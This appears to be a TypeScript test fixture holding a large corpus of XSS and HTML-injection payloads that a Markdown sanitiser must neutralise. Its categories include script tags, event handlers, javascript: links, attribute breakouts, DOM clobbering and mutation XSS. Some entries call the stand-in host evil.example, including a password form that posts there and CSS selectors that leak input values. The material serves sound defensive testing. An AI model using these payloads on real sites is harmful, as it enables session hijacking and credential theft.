/** An article that tries what it must not do: run code, load or post something, navigate, or cover or imitate the page. */
export interface Attack {
	name: string;
	markdown: string;
	title?: string;
}

/** The script that an attack tries to run. */
const RUN = 'window.__ran=(window.__ran||0)+1';
const EVIL = 'https://evil.example';

/** Event handler attributes; the last entries of `handlers` set all of them on each allowed element. */
const HANDLERS = [
	'onclick',
	'onmouseover',
	'onmouseenter',
	'onpointerover',
	'onfocus',
	'onload',
	'onerror',
	'ontoggle',
	'onanimationstart',
	'onbeforematch',
];
const KEPT =
	'p div blockquote ul ol li dl dt dd details summary figure figcaption img video audio table caption thead tbody tr th td a span strong em u s small mark del ins sub sup kbd samp var code abbr dfn cite q time bdi bdo ruby rt br wbr pre h1 h2 h3 h4 h5 h6 hr'.split(
		' ',
	);

const run = (name: string, markdown: string): Attack => ({ name, markdown });

const scripts: Attack[] = [
	run('script element', `Hello <script>${RUN}</script> there`),
	run('script block', `<script>\n${RUN}\n</script>\n\nwords`),
	run('script from elsewhere', `<script src="${EVIL}/x.js"></script>`),
	run('script in capitals with a slash', `<SCRIPT/x>${RUN}</SCRIPT/x>`),
	run('script without an end', `<script>${RUN}`),
	run('script with a broken end', `<script>${RUN}</script foo="bar" >after`),
	run('script inside script', `<scr<script>ipt>${RUN}</scr</script>ipt>`),
	run('script after an extra bracket', `<<script>${RUN}//<</script>`),
	run('module script', `<script type="module">${RUN}</script>`),
	run(
		'import map and speculation rules',
		`<script type="speculationrules">{"prefetch":[{"urls":["${EVIL}/p"]}]}</script>`,
	),
	run('script in svg', `<svg><script>${RUN}</script></svg>`),
	run('script by svg href', `<svg><script href="data:text/javascript,${RUN}"></script></svg>`),
	run('script in a table cell', `| a |\n|---|\n| <script>${RUN}</script> |`),
	run('script in a heading', `## Setup <script>${RUN}</script>`),
	run('script in an alert', `> [!NOTE]\n> <script>${RUN}</script>`),
	run('script in an alert name', `> [!NOTE"><script>${RUN}</script>]\n> words`),
	run('script in a task', `- [ ] <script>${RUN}</script>`),
	run('script behind a conditional comment', `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`),
	run('comment that ends early', `<!--><img src=x onerror="${RUN}">-->`),
	run('comment that ends with a bang', `<!-- --!><img src=x onerror="${RUN}"> -->`),
	run('CDATA section', `<![CDATA[<img src=x onerror="${RUN}">]]>`),
	run(
		'processing instruction',
		`<?xml-stylesheet href="javascript:${RUN}"?><?php echo '<img src=x onerror=${RUN}>' ?>`,
	),
	run('doctype with a bracket', `<!DOCTYPE html [<!ENTITY x "<img src=x onerror=${RUN}>">]>&x;`),
	run('UTF-7 letters', `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`),
	run('overlong and fullwidth brackets', `＜script＞${RUN}＜/script＞ \u00bcscript\u00be${RUN}\u00bc/script\u00be`),
	run('NUL inside names', `<scr\0ipt>${RUN}</scr\0ipt><im\0g src=x oner\0ror="${RUN}">`),
	run('entities that become tags', `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62;`),
	run('entities twice over', `&amp;lt;img src=x onerror=${RUN}&amp;gt;`),
];

const handlers: Attack[] = [
	run('image that fails', `<img src=x onerror="${RUN}">`),
	run('image with slashes for spaces', `<img/src=x/onerror=${RUN}>`),
	run('image with a backtick value', `<img src=\`x\` onerror=\`${RUN}\`>`),
	run('image element by its old name', `<image src=x onerror="${RUN}">`),
	run('unclosed image', `<img src=x onerror="${RUN}"\n\nmore`),
	run('attribute after a quote', `<img """><img src=x onerror="${RUN}">">`),
	run('svg that loads', `<svg onload="${RUN}"></svg><svg/onload=${RUN}>`),
	run('svg animation', `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`),
	run(
		'svg link set by animation',
		`<svg><a><animate attributeName=href values="javascript:${RUN}"/><text x=20 y=20>click</text></a></svg>`,
	),
	run('body and frameset', `<body onload="${RUN}" onpageshow="${RUN}"><frameset onload="${RUN}"></frameset></body>`),
	run('details that open', `<details open ontoggle="${RUN}"><summary onclick="${RUN}">x</summary></details>`),
	run(
		'media that fails',
		`<video src=x onerror="${RUN}"></video><audio src onerror="${RUN}"></audio><video><source onerror="${RUN}"></video>`,
	),
	run('marquee', `<marquee onstart="${RUN}" onfinish="${RUN}">x</marquee>`),
	run('focus by itself', `<a href="#x" autofocus onfocus="${RUN}" tabindex=1>x</a><input autofocus onfocus="${RUN}">`),
	run('content editable', `<div contenteditable onfocus="${RUN}" onbeforeinput="${RUN}">edit</div>`),
	run('access key', `<a accesskey="x" onclick="${RUN}" href="#">x</a>`),
	run(
		'style that animates',
		`<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${RUN}">x</b>`,
	),
	run(
		'popover and its button',
		`<button popovertarget="p" onclick="${RUN}">x</button><div id="p" popover onbeforetoggle="${RUN}">y</div>`,
	),
	run('dialog that is open', `<dialog open onclose="${RUN}" style="position:fixed;inset:0">Sign in again</dialog>`),
	run(
		'custom element and is=',
		`<x-run onclick="${RUN}">x</x-run><b is="x-run" onclick="${RUN}">y</b><article-feedback endpoint="${EVIL}">z</article-feedback>`,
	),
	...KEPT.map((name) =>
		run(
			`handlers on ${name}`,
			`<${name} ${HANDLERS.map((handler) => `${handler}="${RUN}"`).join(' ')} tabindex=0 style="position:fixed;inset:0;z-index:9">words</${name}>\n\nafter`,
		),
	),
];

const addresses: Attack[] = [
	run('javascript link', `[x](javascript:${RUN})`),
	run('javascript link in mixed case', `[x](JaVaScRiPt:${RUN})`),
	run(
		'javascript link by entities',
		`[x](&#106;avascript&colon;${RUN}) <a href="&#x6A&#x61&#x76&#x61script:${RUN}">y</a>`,
	),
	run(
		'javascript link with tabs and line ends',
		`<a href="java&#9;script:${RUN}">x</a> <a href="java&NewLine;script&Tab;:${RUN}">y</a> <a href=" \n javascript:${RUN}">z</a>`,
	),
	run('javascript link after control characters', `<a href="&#1;&#31;javascript:${RUN}">x</a>`),
	run(
		'javascript link with a soft hyphen and a zero width space',
		`<a href="java\u00adscript:${RUN}">x</a> <a href="\u200bjavascript:${RUN}">y</a>`,
	),
	run('javascript link with a comment', `<a href="java<!-- -->script:${RUN}">x</a>`),
	run('javascript link in angle brackets', `[x](<javascript:${RUN}>)`),
	run('javascript autolink', `<javascript:${RUN}> and <JAVASCRIPT://x%0A${RUN}>`),
	run('javascript reference link', `[x][1] and [2]\n\n[1]: javascript:${RUN}\n[2]: <java script:${RUN}> "t"`),
	run('javascript image', `![x](javascript:${RUN}) ![y](vbscript:${RUN})`),
	run('javascript with a host', `[x](javascript://help.test/%0A${RUN})`),
	run('javascript percent encoded', `[x](javascript%3A${RUN}) [y](%6Aavascript:${RUN})`),
	run(
		'view-source, blob, filesystem, vbscript',
		`[a](view-source:javascript:${RUN}) [b](blob:http://help.test/1) [c](filesystem:http://help.test/1) [d](vbscript:${RUN})`,
	),
	run(
		'data link',
		`[x](data:text/html,<script>${RUN}</script>) [y](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	),
	run(
		'data image that is svg',
		`![x](data:image/svg+xml,<svg/onload=${RUN}>) ![y](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
	),
	run('data image that changes its mind', `<img src="data:image/png;base64,AAAA,text/html,<script>${RUN}</script>">`),
	run(
		'link attributes that send',
		`<a href="#x" ping="${EVIL}/ping" target="_top" download="x.exe" attributionsrc="${EVIL}/a">x</a>`,
	),
	run('cite that is a script', `<blockquote cite="javascript:${RUN}">x</blockquote><q cite="javascript:${RUN}">y</q>`),
	run(
		'image map',
		`<img src="/x.png" usemap="#m"><map name="m"><area shape="rect" coords="0,0,900,900" href="javascript:${RUN}"></map>`,
	),
	run('address with a user name', `[x](https://help.test@evil.example/) [y](//evil.example) [z](/\\evil.example)`),
	run(
		'address that ends its attribute',
		`[x](https://a.example/"onmouseover="${RUN}) [y](<https://a.example/" onclick="${RUN}>)`,
	),
	run('address with a quote in entities', `[x](https://a.example/&quot;onmouseover=&quot;${RUN})`),
];

const quotes: Attack[] = [
	run('alternative text', `![x" onerror="${RUN}](/none.png) ![a"><img src=x onerror=${RUN}>](/none.png)`),
	run('link title', `[x](/a 'y" onmouseover="${RUN}') [x](/a "y&quot; onclick=&quot;${RUN}")`),
	run('image title', `![x](/a.png 'y"><script>${RUN}</script>')`),
	run(
		'language of a code block',
		`\`\`\`js" onmouseover="${RUN}\nx\n\`\`\`\n\n\`\`\`"><img/src=x/onerror=${RUN}>\nx\n\`\`\``,
	),
	run('language class by hand', `<pre><code class='language-x" onmouseover="${RUN}'>x</code></pre>`),
	run('code in a code block', `\`\`\`html\n</code></pre><script>${RUN}</script><img src=x onerror=${RUN}>\n\`\`\``),
	run(
		'code that is highlighted',
		`\`\`\`js\nconst a = \`\${"</span></code><img src=x onerror=${RUN}>"}\`; /* --><script>${RUN}</script> */\n\`\`\``,
	),
	run(
		'unknown language',
		`\`\`\`constructor\n<img src=x onerror=${RUN}>\n\`\`\`\n\n\`\`\`__proto__\n<img src=x onerror=${RUN}>\n\`\`\``,
	),
	run('inline code', `\`<img src=x onerror=${RUN}>\` and <code><img src=x onerror=${RUN}></code>`),
	run('heading text', `## "><img src=x onerror=${RUN}>\n\n## x" onclick="${RUN}\n\n[x](#x-onclick)`),
	run('heading id by hand', `<h2 id='x" onmouseover="${RUN}'>x</h2>\n\n[y](#x"onmouseover="${RUN})`),
	run('table region named by a heading', `## Plans" onfocus="${RUN}\n\n| a |\n|---|\n| 1 |`),
	run('table caption', `<table><caption>x" onfocus="${RUN}</caption><tr><td>1</td></tr></table>`),
	run('table alignment', `<table><tr><td align='left" onclick="${RUN}'>x</td></tr></table>`),
	run(
		'link card address',
		`<iframe src='https://a.example/"><img src=x onerror=${RUN}>' title='"><img src=x onerror=${RUN}>'></iframe>`,
	),
	run(
		'link card script',
		`<iframe src="javascript:${RUN}"></iframe><embed src="data:text/html,<script>${RUN}</script>"><object data="javascript:${RUN}">f</object>`,
	),
	run(
		'sizes and numbers',
		`<img src="/x.png" width='1" onerror="${RUN}' height="99999999"><ol start='1" onclick="${RUN}'><li value="javascript:1">x</ol>`,
	),
	run('language and direction', `<p lang='en" onclick="${RUN}' dir='ltr" onclick="${RUN}'>x</p>`),
];

const documents: Attack[] = [
	run('foreign frame', `<iframe src="${EVIL}/frame"></iframe>`),
	run('frame with its own document', `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`),
	run('frame without an end', `<iframe src="${EVIL}/frame" onload="${RUN}"> words`),
	run(
		'frame with tags inside',
		`<iframe><img src=x onerror="${RUN}"></iframe><iframe><iframe></iframe><script>${RUN}</script></iframe>`,
	),
	run(
		'object and embed',
		`<object data="${EVIL}/x.swf"><param name="movie" value="${EVIL}/x.swf"></object><embed src="${EVIL}/x.pdf">`,
	),
	run(
		'applet, portal and fenced frame',
		`<applet code="x"></applet><portal src="${EVIL}"></portal><fencedframe></fencedframe>`,
	),
	run(
		'foreign video with a poster',
		`<video autoplay preload="auto" src="${EVIL}/x.mp4" poster="javascript:${RUN}"></video>`,
	),
	run('foreign audio by source', `<audio autoplay><source src="${EVIL}/x.mp3"></audio>`),
	run('foreign subtitles', `<video src="/own.mp4"><track default src="${EVIL}/x.vtt"></video>`),
	run('meta refresh', `<meta http-equiv="refresh" content="0;url=${EVIL}/meta">`),
	run(
		'meta that loosens policies',
		`<meta http-equiv="Content-Security-Policy" content="script-src *"><meta name="referrer" content="unsafe-url">`,
	),
	run('base address', `<base href="${EVIL}/"><a href="x">x</a>\n\n[y](y)`),
	run(
		'linked style and prefetch',
		`<link rel="stylesheet" href="${EVIL}/x.css"><link rel="prefetch" href="${EVIL}/p"><link rel="preload" as="image" imagesrcset="${EVIL}/i 1x">`,
	),
	run(
		'source set',
		`<img src="/x.png" srcset="${EVIL}/x 2x" sizes="100vw"><picture><source srcset="${EVIL}/y"><img src="/y.png"></picture>`,
	),
	run(
		'old images',
		`<img lowsrc="${EVIL}/l" dynsrc="${EVIL}/d" longdesc="javascript:${RUN}" src="/x.png"><table background="${EVIL}/b"><tr><td background="${EVIL}/c">x</td></tr></table><body background="${EVIL}/e">`,
	),
	run(
		'form that posts',
		`<form action="${EVIL}/post" method="post"><input name="password" type="password"><button>Sign in</button></form>`,
	),
	run(
		'button with an action of its own',
		`<form id="f"></form><button form="f" formaction="javascript:${RUN}">x</button><input type="image" src="${EVIL}/i" formaction="${EVIL}/p">`,
	),
	run(
		'form fields loose',
		`<input value="x"><select><option>x</select><textarea><img src=x onerror=${RUN}></textarea><keygen><isindex type=image src=1 onerror=${RUN}>`,
	),
];

const looks: Attack[] = [
	run('style element that covers', '<style>*{position:fixed;inset:0;background:red}</style>words'),
	run(
		'style attribute that covers',
		'<div style="position:fixed;inset:0;z-index:99999;background:#fff">Your session has ended</div>',
	),
	run(
		'style that calls home',
		`<p style="background:url(${EVIL}/bg)">x</p><style>@import url(${EVIL}/i.css);input[value^=a]{background:url(${EVIL}/a)}</style>`,
	),
	run('style behind text', `<style></style><img src=x onerror=${RUN}>`),
	run('style in svg', `<svg><style><img src=x onerror=${RUN}></style></svg>`),
	run(
		'classes of the page',
		'<div class="banner alert alert-caution external anchor hljs-keyword sr-only">fake</div><span class="check">☑</span>',
	),
	run(
		'roles and states',
		'<div role="dialog" aria-modal="true" aria-label="Sign in" aria-live="assertive" hidden inert>x</div><p aria-hidden="true" tabindex="5">y</p>',
	),
	run('landmarks of the page', '<main><header><nav><search><footer>fake</footer></search></nav></header></main>'),
	run('font and colours', '<font color="red" size="7" face="x">big</font><body bgcolor="black" text="white">x</body>'),
	run('element that would close the page', '</article></main></body></html><p>outside</p></div></div>'),
	run(
		'list items and cells that would close the page',
		'</li></ul></td></tr></table><li>x</li><td>y</td><dd>z</dd><caption>c</caption>',
	),
	run(
		'slots, parts and templates',
		`<template shadowrootmode="open"><slot></slot><img src=x onerror=${RUN}></template><b slot="x" part="y" exportparts="z">w</b>`,
	),
	run('direction turned around', `[https://help.test/\u202emoc.live//:sptth](${EVIL}) \u202dabc\u2066x`),
	run(
		'data attributes for scripts',
		'<div data-cstar-launcher data-pagefind-ignore data-pagefind-meta="title:x" itemscope itemprop="name">x</div>',
	),
];

const names: Attack[] = [
	run('ids of the page', '<p id="foot">x</p><p id="search">y</p>\n\n## Search\n\n## Foot'),
	run(
		'ids that hide functions',
		'<img id="getElementById" name="getElementById" src="/x.png"><a id="config" name="config" href="#">x</a><a id="config" name="url" href="javascript:1">y</a>',
	),
	run(
		'names that hide properties',
		'<img name="cookie" src="/x.png"><form name="body"></form><img name="documentElement" src="/x.png"><iframe name="self"></iframe><object name="forms"></object>',
	),
	run(
		'headings named like objects',
		'## constructor\n\n## __proto__\n\n## toString\n\n## hasOwnProperty\n\n[x](#__proto__)',
	),
	run(
		'attributes named like objects',
		'<p __proto__="x" constructor="y" toString="z">w</p><constructor>v</constructor><__proto__>u</__proto__>',
	),
];

const mutations: Attack[] = [
	run(
		'math and style',
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
	),
	run('form in form in math', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`),
	run('svg paragraph and style', `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`),
	run(
		'svg title and style',
		`<svg><title><style><a title="</style><img src=1 onerror=${RUN}>"></a></style></title></svg>`,
	),
	run(
		'foreign object',
		`<svg><foreignObject><iframe src="javascript:${RUN}"></iframe><body onload=${RUN}></foreignObject></svg>`,
	),
	run(
		'svg use',
		`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:${RUN}'><rect width='99' height='99'/></a></svg>#x"/></svg>`,
	),
	run('annotation', `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`),
	run(
		'math link',
		`<math href="javascript:${RUN}">click</math><math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
	),
	run('noscript', `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`),
	run(
		'raw text elements',
		`<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp><noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
	),
	run(
		'noframes and plaintext',
		`<noframes><img title="</noframes><img src=x onerror=${RUN}>"></noframes><plaintext><img src=x onerror=${RUN}>`,
	),
	run(
		'textarea and title',
		`<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea><title><a title="</title><img src=x onerror=${RUN}>"></title>`,
	),
	run('textarea with a slash', `<textarea></textarea/><img src=x onerror=${RUN}></textarea>`),
	run('select', `<select><template><style><img title="</style><img src=x onerror=${RUN}>"></template></select>`),
	run('template', `<template><img src=x onerror=${RUN}><script>${RUN}</script></template>`),
	run('anchors and tables crossed', `<a href="/x"><table><a href="/y"><tr><td><a onclick="${RUN}">z</a></table></a>`),
	run('deep nesting', `${'<div>'.repeat(600)}<img src=x onerror=${RUN}>${'</div>'.repeat(600)}`),
	run('deep formatting', `${'<b><i>'.repeat(300)}<script>${RUN}</script><img src=x onerror=${RUN}>`),
	run(
		'tag split by Markdown',
		`<img src="x" *onerror*="${RUN}"> <a href="https://a.example/**" onclick="${RUN}**">x</a>`,
	),
	run('tag over two paragraphs', `<div title="\n\n"><img src=x onerror=${RUN}>\n\n">`),
	run('Markdown inside HTML', `<div>\n\n[x](javascript:${RUN}) ![y](x"onerror="${RUN})\n\n</div>`),
	run('HTML inside a link text', `[<img src=x onerror=${RUN}>](https://a.example) [</a><script>${RUN}</script>](/x)`),
	run(
		'our own mark, guessed',
		'<div own="note" own-="note" own-000000000000000000000000="caution">x</div><own-card href="javascript:1">y</own-card>',
	),
	run('half surrogates', `\ud800<img src=x onerror=${RUN}>\udc00 [\ud83d](javascript:${RUN})`),
];

const titles: Attack[] = [
	{ name: 'title that closes a script', title: `</script><script>${RUN}</script>`, markdown: 'x' },
	{ name: 'title that closes the title', title: `</title><img src=x onerror=${RUN}>`, markdown: 'x' },
	{ name: 'title that closes an attribute', title: `"><img src=x onerror=${RUN}>`, markdown: '| a |\n|---|\n| b |' },
	{ name: 'title that opens a comment', title: `<!--<script>${RUN}`, markdown: 'x' },
	{ name: 'title with line separators', title: `a\u2028b\u2029${RUN}`, markdown: 'x' },
	{ name: 'title in Markdown', title: `[x](javascript:${RUN})`, markdown: `# [x](javascript:${RUN})\n\nwords` },
];

/** The corpus by kind: the sanitiser must make every entry harmless. */
export const attacks: Readonly<Record<string, readonly Attack[]>> = {
	scripts,
	handlers,
	addresses,
	quotes,
	documents,
	looks,
	names,
	mutations,
	titles,
};

/** Attacks that do run without the sanitiser: they prove that the tests would detect one. */
export const live: readonly Attack[] = [
	run('image that fails', `<img src=x onerror="${RUN}">`),
	run('click handler', `<p onclick="${RUN}">x</p>`),
	run('javascript link', `<a href="javascript:void(${RUN})">x</a>`),
	run('script', `<script>${RUN}</script>`),
];
